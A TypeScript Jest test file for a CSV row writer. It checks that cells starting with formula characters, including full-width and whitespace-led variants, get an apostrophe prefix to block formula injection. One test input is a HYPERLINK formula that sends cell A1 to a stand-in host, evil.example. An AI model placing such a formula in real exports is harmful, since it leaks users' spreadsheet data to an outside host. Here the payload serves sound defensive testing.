import { describe, expect, it } from '@jest/globals';
import { csvRow } from './index.js';

/** Quotes a value if necessary. */
const written = (value: string) => (/[",\r\n]|^\s/.test(value) ? `"${value.replaceAll('"', '""')}"` : value);

describe('a CSV row', () => {
  it.each([
    '=HYPERLINK("http://evil.example/?"&A1;"invoice")',
    '=1+1',
    '+81-3-1234-5678',
    '-2+3',
    '-',
    '@SUM(A1)',
    '\t=1',
    '\r=1',
    '\n=1',
    ' =1',
    '\u3000=1',
    '＝1+1',
    '＋1',
    '－1',
    '＠x',
    '-1-1',
  ])(
    'has an apostrophe before a text that a spreadsheet would run as a formula, unless the row is exact: %j',
    (text) => {
      expect(csvRow([text, 'end'])).toBe(`${written(`'${text}`)},end\r\n`);
      expect(csvRow([text, 'end'], true)).toBe(`${written(text)},end\r\n`);
    },
  );

  it.each(['-1', '-12.5', '+3', '-1,234', '0', '1-2', 'a=b', 'ＡＢＣ', '', "'"])('leaves %j as it is', (text) => {
    expect(csvRow([text, 'end'])).toBe(csvRow([text, 'end'], true));
  });

  it('is empty for a missing value, and has JSON for a value that is no text', () => {
    expect(csvRow([undefined, null, -1, [{ a: '=1' }]])).toBe(',,-1,"[{""a"":""=1""}]"\r\n');
  });

  it('is no empty line', () => {
    expect(csvRow([''])).toBe('""\r\n');
    expect(csvRow([])).toBe('\r\n');
  });
});
